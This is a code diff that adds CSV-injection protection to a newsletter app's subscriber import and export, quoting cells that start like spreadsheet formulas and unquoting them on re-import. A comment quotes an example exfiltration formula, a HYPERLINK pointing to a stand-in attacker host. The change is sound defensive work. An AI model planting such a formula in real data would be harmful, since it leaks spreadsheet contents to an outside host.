@@ -17,6 +17,7 @@ from typing import Any, TextIO
 
 from sqlalchemy.orm import Session
 
+from newsletter.errors import UserError
 from newsletter.subscribers import (
     SubscriberError,
     SubscriberInput,
@@ -33,7 +34,7 @@ EXPORT_COLUMNS = (*PROFILE_COLUMNS, "status")
 _Reader = Any  # csv.reader objects have no public type
 
 
-class CsvFormatError(ValueError):
+class CsvFormatError(UserError, ValueError):
     """The file as a whole cannot be imported (no header, no email column, not text)."""
 
 
@@ -152,7 +153,7 @@ def _rows_with_lines(reader: _Reader) -> Iterator[tuple[list[str] | RejectedRow,
 def _row_to_input(header: list[str], cells: list[str]) -> SubscriberInput:
     if len(cells) > len(header):
         raise SubscriberError("row", f"{len(cells)} fields but the header has {len(header)}")
-    values = dict(zip(header, cells, strict=False))
+    values = dict(zip(header, (restore(cell) for cell in cells), strict=False))
     attributes = {k: v for k, v in values.items() if k not in KNOWN_COLUMNS and k and v != ""}
     return SubscriberInput.build(
         values.get("email", ""),
@@ -200,8 +201,37 @@ def import_csv(
     return report
 
 
+# Cells a spreadsheet would read as a formula (OWASP "CSV Injection"): the
+# public writes names and organisations, so a cell such as
+# ``=HYPERLINK("http://evil.example/?x="&A1)`` must arrive as text.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(cell: str) -> str:
+    """``cell`` made inert for spreadsheets: a leading formula character gets a ``'`` before it.
+
+    OWASP's guidance: prefix the cell with a single quote, which Excel,
+    LibreOffice and Google Sheets show as text and do not evaluate.  The
+    import strips that quote again (:func:`restore`), so an export imports
+    back unchanged.
+    """
+    if cell.startswith(FORMULA_LEADS):
+        return "'" + cell
+    return cell
+
+
+def restore(cell: str) -> str:
+    """Undo :func:`neutralise` for a cell read back from an exported file."""
+    if cell.startswith("'") and cell[1:].startswith(FORMULA_LEADS):
+        return cell[1:]
+    return cell
+
+
 def export_csv(session: Session, out: TextIO) -> int:
-    """Write every subscriber as CSV (the import columns plus attributes); returns the count."""
+    """Write every subscriber as CSV (the import columns plus attributes); returns the count.
+
+    Every cell that starts like a formula is neutralised (:func:`neutralise`).
+    """
     attribute_names: set[str] = set()
     for subscriber in iter_all(session):
         attribute_names.update(subscriber.attributes)
@@ -211,7 +241,8 @@ def export_csv(session: Session, out: TextIO) -> int:
     count = 0
     for subscriber in iter_all(session):
         writer.writerow(
-            [
+            neutralise(cell)
+            for cell in [
                 subscriber.email,
                 subscriber.name,
                 subscriber.organisation,
